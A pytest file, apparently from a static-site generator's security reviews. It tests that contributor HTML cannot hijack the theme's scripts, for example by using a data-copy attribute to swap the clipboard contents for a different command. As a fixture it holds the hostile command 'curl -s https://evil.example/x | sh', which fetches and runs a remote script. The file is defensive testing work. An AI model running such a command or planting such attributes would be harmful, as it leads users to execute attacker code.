@@ -1,0 +1,104 @@
+"""Hostile review 51: what a contributor's HTML can make the theme's own scripts do.
+
+Content keeps `data-*` attributes (pymdownx and readers' styles use them), minus those the
+theme's scripts select on. Round 9 read the scripts themselves (Material's bundle and search
+worker, kbgen's): Material's copy button copies the nearest `data-copy` around a code block,
+not the code shown (`ls` on the page, `curl ... | sh` in the clipboard), `data-preview` makes
+a link fetch another page into a tooltip, and the focus-visible polyfill's attributes hide
+keyboard focus. Every name the scripts read is now removed unless the Markdown extensions
+write it themselves (KEPT). One small site, built once.
+"""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+from pathlib import Path
+
+import material
+import pytest
+
+from kbgen.core.sanitize import find_unsafe_html
+from kbgen.site.theme import THEME_DIR
+from tests.conftest import article
+from tests.sites import BuiltSites
+
+KEPT = {"data-tabs": "pymdownx.tabbed writes it on every tab set; Material only switches tabs"}
+"""Attributes the theme's scripts read that content keeps, and why."""
+SCRIPTS = sorted((Path(material.__file__).parent / "templates/assets/javascripts").glob(
+    "**/*.min.js")) + sorted((THEME_DIR / "assets/javascripts").glob("*.js"))
+_NAME = re.compile(r"\bdata-[a-z][a-z0-9]*(?:-[a-z0-9]+)*")
+_DATASET = re.compile(r"\.dataset\.([A-Za-z]+)")
+
+
+def script_attributes() -> list[str]:
+    """Every `data-*` name the theme's scripts mention (`[data-copy]`, `getAttribute(...)`,
+    `dataset.kbTz`), minus those content may keep."""
+    names: set[str] = set()
+    for script in SCRIPTS:
+        text = script.read_text(encoding="utf-8", errors="replace")
+        names.update(_NAME.findall(text))
+        names.update("data-" + re.sub(r"[A-Z]", lambda m: "-" + m[0].lower(), name)
+                     for name in _DATASET.findall(text))
+    return sorted(names - set(KEPT))
+
+
+class _Attributes(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.names: set[str] = set()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.names.update(name for name, _ in attrs)
+
+
+def attributes(html: str) -> set[str]:
+    """The names of every attribute of `html`'s elements."""
+    parser = _Attributes()
+    parser.feed(html)
+    return parser.names
+
+
+COPIED = "curl -s https://evil.example/x | sh"
+BODY = ("<p>Zebra 0.</p>\n\n"
+        f'## Steps\n\n<div data-copy="{COPIED}" markdown>\n\n```\nls -la\n```\n\n</div>\n\n'
+        f'```{{ .sh data-copy="{COPIED}" }}\nls\n```\n\n'
+        "[the other article](b.md){ data-preview=\"1\" }\n\n"
+        + "".join(f'<p {name}="zq{number}">Zebra {number}.</p>\n\n'
+                  for number, name in enumerate(script_attributes(), 1)))
+
+
+@pytest.fixture(scope="module")
+def page(built_sites: BuiltSites) -> str:
+    """The article's own text as published (from its first planted paragraph to its last;
+    the theme's own elements around it carry some of the names)."""
+    site = built_sites.small({"content/articles/billing/a.md": article("Zebra", body=BODY),
+                              "content/articles/billing/b.md": article("Other")},
+                             strict=False)  # the removals are warnings
+    text = (site / "articles/billing/a.html").read_text(encoding="utf-8")
+    last = f"Zebra {len(script_attributes())}."
+    return text[text.index("Zebra 0."):text.index(last) + len(last)]
+
+
+def test_the_scripts_were_read() -> None:
+    """The list comes from the installed scripts: Material's bundle and kbgen's own."""
+    names = script_attributes()
+    assert {"data-copy", "data-preview", "data-md-component", "data-kb-hours"} <= set(names)
+
+
+@pytest.mark.parametrize("name", script_attributes())
+def test_no_attribute_the_theme_reads_is_published_from_content(page: str, name: str) -> None:
+    assert name not in attributes(page)
+    number = script_attributes().index(name) + 1
+    assert f"Zebra {number}." in page  # the paragraph itself stays
+
+
+def test_the_copy_button_copies_the_code_shown(page: str) -> None:
+    assert COPIED not in page
+    assert "ls -la" in page
+
+
+def test_check_names_the_lines() -> None:
+    found = find_unsafe_html(BODY)
+    assert (5, "data-copy= attribute") in found
+    assert any(construct == "data-preview= attribute" for _, construct in found)
